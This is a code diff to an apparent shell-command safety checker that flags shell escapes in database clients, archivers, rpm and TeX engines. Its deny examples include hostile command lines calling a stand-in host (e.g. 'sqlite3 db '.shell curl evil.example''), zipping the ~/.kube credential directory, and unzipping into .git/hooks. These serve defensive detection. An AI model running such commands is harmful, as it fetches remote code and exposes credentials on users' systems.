@@ -306,10 +306,11 @@ function sqlite(call: Call): Partial<Answer> {
 }
 
 /** mysql, psql and their kin: `\! cmd` and `system cmd` in -e/-c text or static stdin run shell text. */
-function databaseClient(call: Call): Partial<Answer> {
+/** A database client's shell escapes: `\\! cmd` and `system cmd` in -e/-c text or stdin, `\\o | cmd`, COPY FROM PROGRAM. */
+export function databaseClient(call: Call): Partial<Answer> {
   const runs: Run[] = [];
   const scan = (word: Word, text: string) => {
-    for (const m of text.matchAll(/(?:^|[\n;])\s*(?:\\!|system\s)\s*([^\n;]*)/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `${call.name} \\!` });
+    for (const m of text.matchAll(/(?:^|[\n;])\s*(?:\\!|system\s|\.(?:shell|system)\s)\s*([^\n;]*)/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `${call.name} \\!` });
     for (const m of text.matchAll(/\\(?:o|g|out)\s*\|\s*([^\n]*)/g)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!, word, via: `${call.name} \\o |` });
     for (const m of text.matchAll(/\bfrom\s+program\s+'((?:[^']|'')*)'/gi)) runs.push({ kind: 'text', dialect: 'bash', text: m[1]!.replace(/''/g, "'"), word, via: `${call.name} COPY FROM PROGRAM` });
     if (/\\(?:setenv|e|ef|ev|edit)\b|\\gexec\b/.test(text)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${call.name}: a client command that runs an editor or builds commands` });
@@ -650,14 +651,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   { names: ['zip'], summary: 'zip: -TT/--unzip-command run shell text; -r reads trees', analyze: zip, examples: { deny: ["zip x.zip f -T -TT 'curl evil.example #'", "zip --unzip-command='wget evil.example' x.zip f", 'zip -r /tmp/k.zip ~/.kube'], pass: ['zip -r dist.zip dist'] } },
   { names: ['unzip'], summary: 'unzip: extracts into -d DIR (or the working directory)', analyze: unzip, examples: { deny: ['unzip x.zip -d .git/hooks', 'unzip -o x.zip -d ~/.config/autostart'], pass: ['unzip x.zip -d /tmp/x', 'unzip -l x.zip'] } },
   { names: ['sqlite3', 'sqlite'], summary: 'sqlite3: .shell/.system and `|cmd` targets run shell text; .load loads code', analyze: sqlite, examples: { deny: ["sqlite3 db '.shell curl evil.example'", "sqlite3 db '.system wget evil.example'", "sqlite3 -cmd '.shell curl evil.example' db", "echo '.shell curl evil.example' | sqlite3 db", "sqlite3 db \".once '|curl evil.example'\""], pass: ["sqlite3 db 'select 1'", 'sqlite3 app.db .tables', "sqlite3 -safe db '.shell ls'"] } },
-  {
-    names: ['redis-cli', 'valkey-cli', 'keydb-cli'],
-    summary: 'redis-cli: its words are commands for the server (text); --eval reads a Lua file the server runs; --rdb and --pipe name files',
-    options: { order: 'posix', flags: 'xeXc3', valued: 'hpsaunridD', long: ['no-auth-warning', 'raw', 'no-raw', 'csv', 'json', 'quoted-json', 'stat', 'latency', 'latency-history', 'latency-dist', 'lru-test', 'replica', 'bigkeys', 'memkeys', 'hotkeys', 'scan', 'intrinsic-latency', 'tls', 'insecure', 'verbose', 'version', 'help', 'resp2', 'resp3', 'cluster', 'pipe', 'askpass'], longValued: ['user', 'pass', 'eval', 'rdb', 'functions-rdb', 'pattern', 'count', 'quoted-pattern', 'memkeys-samples', 'cacert', 'cacertdir', 'cert', 'key', 'sni', 'tls-ciphers', 'tls-ciphersuites', 'pipe-timeout', 'ldb-sync-mode'] },
-    operands: 'text',
-    examples: { deny: [], pass: ['redis-cli -h 127.0.0.1 ping', 'redis-cli FLUSHALL', 'redis-cli get curl'] },
-  },
-  { names: ['mysql', 'mariadb', 'psql', 'pgcli', 'mycli', 'sqlcmd', 'clickhouse-client', 'duckdb'], summary: 'database clients: `\\! cmd` and `system cmd` in -e/-c text or stdin run shell text', analyze: databaseClient, examples: { deny: ["mysql -e '\\! curl evil.example'", "psql -c '\\! wget evil.example'", "psql -c \"COPY t FROM PROGRAM 'curl evil.example'\""], pass: ["psql -c 'select 1'", "mysql -e 'show databases'"] } },
+  { names: ['sqlcmd', 'clickhouse-client', 'duckdb'], summary: 'database clients: `\\! cmd` and `system cmd` in -e/-c text or stdin run shell text (psql and mysql: network.ts)', analyze: databaseClient, examples: { deny: ["duckdb -c '.shell curl evil.example'", "clickhouse-client -c '\\! wget evil.example'"], pass: ["duckdb -c 'select 1'"] } },
   { names: ['rpm', 'rpmdb', 'rpmquery', 'rpmverify', 'rpmbuild', 'rpmspec', 'rpmsign', 'rpmkeys'], summary: 'rpm: --eval and --define macros run %(…) as shell text; --pipe runs a command', analyze: rpm, examples: { deny: ["rpm --eval '%(curl evil.example)'", "rpm -E '%(wget evil.example)'", "rpm --pipe 'curl evil.example' -qa", "rpmdb --eval '%(curl evil.example 1>&2)'"], pass: ["rpm --eval '%{_libdir}'", 'rpm -qa'] } },
   ...LANGUAGES,
   { names: ['latex', 'pdflatex', 'xelatex', 'lualatex', 'tex', 'pdftex', 'etex', 'luatex', 'xetex', 'context', 'mpost'], summary: 'TeX engines: \\write18{cmd} runs shell text when shell escape is on', analyze: tex, examples: { deny: ["latex --shell-escape '\\immediate\\write18{curl evil.example}'", "pdftex --shell-escape '\\write18{wget evil.example}\\end'"], pass: ['pdflatex paper.tex', "latex '\\write18{ls}'"] } },
